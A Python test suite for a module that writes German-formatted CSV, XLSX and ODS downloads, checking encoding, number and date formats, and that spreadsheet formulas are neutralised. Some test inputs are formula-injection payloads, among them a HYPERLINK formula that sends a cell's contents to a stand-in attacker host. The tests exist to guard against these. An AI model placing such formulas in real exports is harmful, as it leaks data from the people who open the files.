"""The one writer for downloaded tables: what a German spreadsheet reads from its files."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from odf import opendocument, table, text

from core import spreadsheets

COLUMNS = ["AGS", "PLZ", "Name", "Einwohner", "Breite", "Stand", "Angemeldet", "Leer"]
ROW = [
    "06632002",
    "01067",
    "Bad Hersfeld – Kurstadt; „Lullusfest“",
    29800,
    Decimal("50.867500"),
    dt.date(2024, 12, 31),
    dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC),
    None,
]


def read_csv(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_is_utf8_with_bom_semicolons_and_german_values(settings):
    settings.TIME_ZONE = "Europe/Berlin"
    data = spreadsheets.csv_bytes(COLUMNS, [ROW])
    assert data.startswith(b"\xef\xbb\xbfAGS;PLZ;Name;")
    assert data.endswith(b"\r\n")
    assert read_csv(data) == [
        COLUMNS,
        [
            "06632002",
            "01067",
            "Bad Hersfeld – Kurstadt; „Lullusfest“",
            "29800",
            "50,867500",
            "31.12.2024",
            "01.03.2026 10:30",  # local time
            "",
        ],
    ]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?x="&A1;"Klick")',
        "+49 6621 0",
        "-1+1",
        "@SUMME(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_written_with_a_leading_apostrophe(value):
    ((cell,),) = read_csv(spreadsheets.csv_bytes(["x"], [[value]]))[1:]
    assert cell == "'" + value


def test_numbers_and_harmless_text_are_written_unchanged():
    rows = [[-5, Decimal("-1.50"), "Kassel = Nordhessen", "E-Mail: a@b.example"]]
    assert read_csv(spreadsheets.csv_bytes(["a", "b", "c", "d"], rows))[1] == [
        "-5",
        "-1,50",
        "Kassel = Nordhessen",
        "E-Mail: a@b.example",
    ]


def test_a_yes_no_cell_must_be_put_in_words():
    with pytest.raises(TypeError):
        spreadsheets.csv_bytes(["x"], [[True]])


def test_xlsx_keeps_keys_as_text_and_formulas_as_text(settings):
    settings.TIME_ZONE = "Europe/Berlin"
    formula = '=HYPERLINK("https://evil.example";"Klick")'
    data = spreadsheets.xlsx_bytes(COLUMNS + ["Titel"], [[*ROW, formula]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header, row = sheet.iter_rows()
    assert [c.value for c in header] == COLUMNS + ["Titel"]
    assert header[0].font.bold
    ags, plz, name, population, lat, as_of, registered, empty, title = row
    assert (ags.value, ags.data_type, ags.number_format) == ("06632002", "s", "@")
    assert (plz.value, plz.data_type) == ("01067", "s")
    assert name.value == "Bad Hersfeld – Kurstadt; „Lullusfest“"
    assert (population.value, lat.value) == (29800, 50.8675)
    assert (as_of.value, as_of.number_format) == (dt.datetime(2024, 12, 31), "DD.MM.YYYY")
    assert registered.value == dt.datetime(2026, 3, 1, 10, 30)
    assert empty.value is None
    assert (title.value, title.data_type) == (formula, "s")  # text, never a formula


def test_ods_keeps_keys_as_text():
    data = spreadsheets.ods_bytes(COLUMNS, [ROW])
    document = opendocument.load(io.BytesIO(data))
    header, row = document.spreadsheet.getElementsByType(table.TableRow)
    cells = row.getElementsByType(table.TableCell)

    def shown(cell):
        return "".join(str(p) for p in cell.getElementsByType(text.P))

    assert [shown(c) for c in header.getElementsByType(table.TableCell)] == COLUMNS
    assert [(c.getAttribute("valuetype"), shown(c)) for c in cells[:6]] == [
        ("string", "06632002"),
        ("string", "01067"),
        ("string", "Bad Hersfeld – Kurstadt; „Lullusfest“"),
        ("float", "29800"),
        ("float", "50,867500"),
        ("date", "31.12.2024"),
    ]
    assert cells[5].getAttribute("datevalue") == "2024-12-31"


def test_download_picks_the_format_from_the_file_name():
    response = spreadsheets.download("liste.xlsx", ["a"], [["1"]])
    assert response["Content-Type"] == spreadsheets.XLSX
    assert response["Content-Disposition"] == 'attachment; filename="liste.xlsx"'
    response = spreadsheets.download("liste.csv", ["a"], [["1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content == b"\xef\xbb\xbfa\r\n1\r\n"
